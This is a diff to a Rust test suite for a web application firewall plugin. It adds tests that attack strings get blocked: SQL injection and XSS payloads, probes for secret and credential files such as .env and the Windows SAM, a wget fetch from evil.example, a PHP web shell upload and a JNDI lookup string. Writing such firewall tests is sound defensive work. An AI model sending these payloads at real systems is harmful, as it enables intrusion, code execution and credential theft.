@@ -74,7 +74,9 @@ const ATTACKS: [Attack; 9] = [
     Attack {
         target: "/?id=1%20union/*!50000select*/%201,2",
         header: None,
-        rule: "sqli-union",
+        // libinjection reads MySQL's versioned comment as code before the
+        // union rule sees the text without comments.
+        rule: "sqli-libinjection",
         payload: "50000",
     },
     Attack {
@@ -166,5 +168,114 @@ fn the_waf_alone_needs_only_the_standard_interfaces() -> TestResult {
         .send()?
         .assert_status(403)
         .assert_header("x-waf-rule", "xss-script");
+    Ok(())
+}
+
+/// The eleven a review sent at the first WAF (issue 27, finding 7), each
+/// in a query argument: all reached the app then.
+const REVIEWED: [&str; 11] = [
+    "' or true-- -",
+    "' or 1#",
+    "1 union table users",
+    "1;replace into users values(1)",
+    "1 and extractvalue(1,concat(0x7e,version()))",
+    "1 and randomblob(1000000000)",
+    "';alert(document.domain)//",
+    ".env",
+    ".git/config",
+    "/proc/1/environ",
+    "c:/windows/system32/config/sam",
+];
+
+/// `text` percent-encoded for a query: every byte but letters and digits.
+fn encoded(text: &str) -> String {
+    text.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn the_reviewed_attacks_are_blocked() -> TestResult {
+    let mut passed = Vec::new();
+    for attack in REVIEWED {
+        let res = app().get(&format!("/?q={}", encoded(attack))).send()?;
+        if res.status() != 403 {
+            passed.push(attack);
+        }
+    }
+    assert!(passed.is_empty(), "reached the app: {passed:#?}");
+    Ok(())
+}
+
+/// FlightPath for WASI 0.3 behind the WAF, which then reads bodies.
+fn app_p3() -> &'static TestApp {
+    static APP: OnceLock<TestApp> = OnceLock::new();
+    APP.get_or_init(|| {
+        TestApp::builder()
+            .without_manifest()
+            .wasi(WasiHttpVersion::P3)
+            .plugin(WAF)
+            .package(FLIGHTPATH)
+            .expect("the waf composes in front of flightpath for 0.3")
+    })
+}
+
+#[test]
+fn attacks_in_json_multipart_and_xml_bodies_are_blocked() -> TestResult {
+    let bodies = [
+        (
+            "application/json",
+            r#"{"from":"LHR","to":"JFK","note":{"text":["x' union select password from users--"]}}"#,
+            "sqli-union",
+        ),
+        (
+            "multipart/form-data; boundary=b",
+            "--b\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\nx;wget -q -O- http://evil.example/x\r\n--b--\r\n",
+            "rce-unix-command",
+        ),
+        (
+            "multipart/form-data; boundary=b",
+            "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--b--\r\n",
+            "protocol-multipart",
+        ),
+        (
+            "application/xml",
+            "<order><note attr=\"x\">${jndi:ldap://evil.example/a}</note></order>",
+            "java-lookup",
+        ),
+    ];
+    for (content_type, body, rule) in bodies {
+        app_p3()
+            .post("/api/flights")
+            .header("content-type", content_type)
+            .body(body)
+            .send()?
+            .assert_status(403)
+            .assert_header("x-waf-rule", rule);
+    }
+    Ok(())
+}
+
+#[test]
+fn ordinary_bodies_pass_whole() -> TestResult {
+    let res = app_p3()
+        .post("/api/flights")
+        .header("content-type", "application/json")
+        .body(
+            r#"{"from":"LHR","to":"JFK","departs":"window seat, or aisle; it's fine -- thanks!"}"#,
+        )
+        .send()?;
+    res.assert_status(201);
+    assert!(
+        res.text().contains("it's fine -- thanks!"),
+        "{}",
+        res.text()
+    );
     Ok(())
 }
